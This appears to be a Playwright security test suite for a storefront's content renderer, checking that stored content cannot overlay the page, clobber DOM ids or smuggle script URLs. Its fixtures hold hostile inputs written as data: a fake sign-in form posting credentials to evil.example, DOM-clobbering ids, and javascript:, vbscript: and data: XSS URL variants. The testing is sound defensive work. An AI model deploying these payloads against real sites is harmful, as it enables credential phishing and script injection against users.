import { expect, test, type APIRequestContext, type Page } from '@playwright/test';
import { hostUrl, serverUrl } from '../../e2e/helpers';

/**
 * Stored content cannot take over a page (issue 14, docs/security.md "Content"). Each attack is
 * stored on the guest storefront's /block-lab page through the test-mode route
 * (server/app/blockLab.ts) and goes through the real gateway, server render and renderer, first
 * as the server's HTML with scripts off, then hydrated.
 */

const LAB = hostUrl('guest', '/block-lab');
const NEIGHBOUR = 'Neighbour block: it stays whatever the others do.';

const OVERLAY_HTML =
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;font-size:40px">' +
  'Your session has expired</div>' +
  '<div class="bf-modal-backdrop">Account locked</div>' +
  '<style>header, main { display: none !important }</style>' +
  '<form action="https://evil.example/steal" method="post"><p>Sign in again</p>' +
  '<label>E-mail <input type="email" name="username"></label>' +
  '<label>Password <input type="password" name="password"></label>' +
  '<button>Sign in</button></form>';

const CLOBBER_HTML =
  '<p id="blockfront-first-page">{"router":{"loaderData":{}},"queries":{"queries":[],"mutations":[]}}</p>' +
  '<a id="dataLayer" name="dataLayer" href="#dataLayer">data layer</a>' +
  '<img name="blockfront-boot" src="/static/org-cellaris/img/cellaris-logo.svg" alt="">' +
  '<p id="root">not the root</p><a href="#specs">Specs</a><h2 id="specs">Specs</h2>';

async function setLab(request: APIRequestContext, blocks: unknown[]): Promise<void> {
  const stored = await request.put(`${serverUrl}/__test__/block-lab`, { data: { blocks } });
  expect(stored.status()).toBe(204);
}

test.beforeEach(async ({ request }) => {
  await request.delete(`${serverUrl}/__test__/csp-reports`);
});

test.afterEach(async ({ request }) => {
  await setLab(request, []);
  // Nothing the page carries was refused by its CSP: the content simply has no styles left.
  const reports = (await (await request.get(`${serverUrl}/__test__/csp-reports`)).json()) as [];
  expect(reports).toEqual([]);
});

/** The overlay text is plain flow content, and a click on the neighbour reaches the neighbour. */
async function expectNoOverlay(page: Page): Promise<void> {
  const overlay = page.getByText('Your session has expired');
  await expect(overlay).toBeVisible();
  expect(await overlay.evaluate((element) => getComputedStyle(element).position)).toBe('static');
  expect(await overlay.getAttribute('style')).toBeNull();
  // The app's own fixed layer, borrowed by class name, is not borrowed.
  const borrowed = page.getByText('Account locked');
  expect(await borrowed.evaluate((element) => getComputedStyle(element).position)).toBe('static');
  expect(await borrowed.getAttribute('class')).toBeNull();
  const neighbour = page.getByText(NEIGHBOUR);
  await expect(neighbour).toBeVisible();
  const box = (await neighbour.boundingBox())!;
  const hit = await page.evaluate(
    ([x, y]) => document.elementFromPoint(x!, y!)?.textContent ?? '',
    [box.x + box.width / 2, box.y + box.height / 2],
  );
  expect(hit).toContain('Neighbour block');
  // No form, no password field, no style element of the content's.
  const lab = page.locator('[data-block-id^="lab-block-"]');
  await expect(lab.locator('form, input, button, style, label')).toHaveCount(0);
  await expect(page.locator('input[type="password"]')).toHaveCount(0);
  await expect(page.getByText('Sign in again')).toBeVisible();
}

test('a rich text overlay and a fake password form are refused, rendered by the server and hydrated', async ({
  browser,
  request,
}) => {
  await setLab(request, [
    { componentName: 'richText', configuration: {}, contentJSON: { html: OVERLAY_HTML } },
  ]);
  const noScript = await browser.newContext({ javaScriptEnabled: false });
  const serverPage = await noScript.newPage();
  await serverPage.goto(LAB);
  await expectNoOverlay(serverPage);
  await noScript.close();

  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(LAB);
  await expect(page.locator('html[data-bf-hydrated]')).toBeAttached({ timeout: 15_000 });
  await expectNoOverlay(page);
  await context.close();
});

test('every block is contained in its own box', async ({ page, request }) => {
  // Every block's wrapper contains what it draws, as sandboxed blocks' always did.
  await setLab(request, [
    {
      componentName: 'richText',
      configuration: {},
      contentJSON: { html: '<p>Inside the lab block</p>' },
    },
  ]);
  await page.goto(LAB);
  await expect(page.locator('html[data-bf-hydrated]')).toBeAttached({ timeout: 15_000 });
  const contained = await page.locator('[data-block-id="lab-block-1"]').evaluate((wrapper) => {
    const style = getComputedStyle(wrapper);
    return { contain: style.contain, overflow: style.overflow };
  });
  expect(contained.contain).toMatch(/layout/);
  expect(contained.contain).toMatch(/paint/);
  expect(contained.overflow).toBe('clip');
  // An element made fixed inside a block (as any style would) stays inside the block's box.
  const escaped = await page.locator('[data-block-id="lab-block-1"]').evaluate((wrapper) => {
    const probe = document.createElement('div');
    probe.style.cssText = 'position:fixed;inset:0;background:red';
    wrapper.querySelector('.bf-rich-text')!.append(probe);
    const box = probe.getBoundingClientRect();
    const own = wrapper.getBoundingClientRect();
    probe.remove();
    return box.height <= own.height + 1 && box.top >= own.top - 1;
  });
  expect(escaped).toBe(true);
});

test('content ids cannot clobber the first-page data, the data layer or the page elements', async ({
  page,
  request,
}) => {
  await setLab(request, [
    { componentName: 'richText', configuration: {}, contentJSON: { html: CLOBBER_HTML } },
  ]);
  const gatewayCalls: string[] = [];
  page.on('request', (sent) => {
    if (sent.url().includes('/graphql')) gatewayCalls.push(sent.url());
  });
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(LAB);
  // Hydrated from the server's own data: no gateway request, so the page's data was not replaced.
  await expect(page.locator('html[data-bf-hydrated]')).toBeAttached({ timeout: 15_000 });
  await expect(page.getByText(NEIGHBOUR)).toBeVisible();
  expect(gatewayCalls).toEqual([]);
  const globals = await page.evaluate(() => ({
    dataLayer: typeof (window as unknown as { dataLayer?: unknown }).dataLayer,
    byId: ['dataLayer', 'blockfront-first-page', 'root', 'specs'].map(
      (id) => document.getElementById(id)?.tagName ?? null,
    ),
    bootName: document.getElementsByName('blockfront-boot').length,
    prefixed: [...document.querySelectorAll('[data-block-id="lab-block-1"] [id]')].map(
      (element) => element.id,
    ),
  }));
  expect(globals.dataLayer).toBe('undefined');
  expect(globals.byId[0]).toBeNull();
  expect(globals.byId[1]).not.toBe('P');
  expect(globals.byId[2]).toBe('DIV');
  expect(globals.byId[3]).toBeNull();
  expect(globals.bootName).toBe(0);
  expect(globals.prefixed).toEqual([
    'user-content-blockfront-first-page',
    'user-content-dataLayer',
    'user-content-root',
    'user-content-specs',
  ]);
  // The in-page link still reaches its heading.
  await expect(page.getByRole('link', { name: 'Specs' })).toHaveAttribute(
    'href',
    '#user-content-specs',
  );
  expect(errors).toEqual([]);
});

test('every link and image field goes through the URL policy', async ({ page, request }) => {
  await setLab(request, [
    {
      componentName: 'heroBanner',
      configuration: {
        heading: 'Hero with a tab in its scheme',
        height: 'small',
        primaryButton: { label: 'Tabbed', url: 'java\tscript:alert(1)' },
      },
    },
    {
      componentName: 'heroBanner',
      configuration: {
        heading: 'Hero with a backslash host',
        height: 'small',
        imageUrl: 'data:image/svg+xml,<svg onload=alert(1)>',
        primaryButton: { label: 'Backslash', url: '/\\evil.example' },
      },
    },
    {
      componentName: 'heroBanner',
      configuration: {
        heading: 'Hero with a good button',
        height: 'small',
        primaryButton: { label: 'To the cart', url: '/cart' },
      },
    },
    {
      componentName: 'header',
      configuration: {
        logo: {
          url: '/static/org-cellaris/img/cellaris-logo.svg',
          alt: 'Cellaris',
          link: '\\\\evil.example',
        },
        navLinks: [
          { label: 'Mixed case', url: 'JaVaScRiPt:alert(1)' },
          { label: 'Encoded', url: '&#106;avascript:alert(1)' },
          { label: 'Protocol relative', url: '//evil.example' },
          { label: 'VBScript', url: 'vbscript:msgbox(1)' },
          { label: 'Support', url: '/support' },
        ],
        cartBadge: { enabled: true, url: 'data:text/html,<script>alert(1)</script>' },
      },
    },
  ]);
  await page.goto(LAB);
  await expect(page.locator('html[data-bf-hydrated]')).toBeAttached({ timeout: 15_000 });
  const lab = page.locator('[data-block-id^="lab-block-"]');
  await expect(lab.getByRole('heading', { name: 'Hero with a good button' })).toBeVisible();
  await expect(lab.getByRole('link', { name: 'To the cart' })).toHaveAttribute('href', '/cart');
  for (const name of [
    'Tabbed',
    'Backslash',
    'Mixed case',
    'Encoded',
    'Protocol relative',
    'VBScript',
  ])
    await expect(lab.getByRole('link', { name })).toHaveCount(0);
  // Refused navigation entries stay readable as text.
  await expect(lab.getByText('Mixed case')).toBeVisible();
  await expect(lab.getByRole('link', { name: 'Support' })).toHaveAttribute('href', '/support');
  await expect(lab.getByRole('link', { name: 'Cellaris' })).toHaveAttribute('href', '/');
  await expect(lab.getByRole('link', { name: /^Cart/ })).toHaveAttribute('href', '/cart');
  await expect(lab.locator('img[src^="data:"]')).toHaveCount(0);
  const hrefs = await lab
    .locator('a[href]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')!));
  for (const href of hrefs) expect(href).not.toMatch(/script|evil|data:|\\/i);
});

test('containment leaves the header working: a navigation dropdown opens over the content', async ({
  page,
}) => {
  await page.goto(hostUrl('guest'));
  await expect(page.locator('html[data-bf-hydrated]')).toBeAttached({ timeout: 15_000 });
  const header = page.locator('header [data-component="header"]');
  const toggle = header.getByRole('button', { name: /pages$/ }).first();
  await toggle.click();
  const list = page.locator('.bf-header-subnav:not([hidden])').first();
  await expect(list).toBeVisible();
  // The last entry hangs below the header block: it must be painted, and on top of the content.
  const link = list.getByRole('link').last();
  const box = (await link.boundingBox())!;
  const headerBox = (await header.boundingBox())!;
  expect(box.y + box.height).toBeGreaterThan(headerBox.y + headerBox.height);
  const hit = await page.evaluate(
    ([x, y]) => document.elementFromPoint(x!, y!)?.closest('.bf-header-subnav') !== null,
    [box.x + box.width / 2, box.y + box.height / 2],
  );
  expect(hit).toBe(true);
});
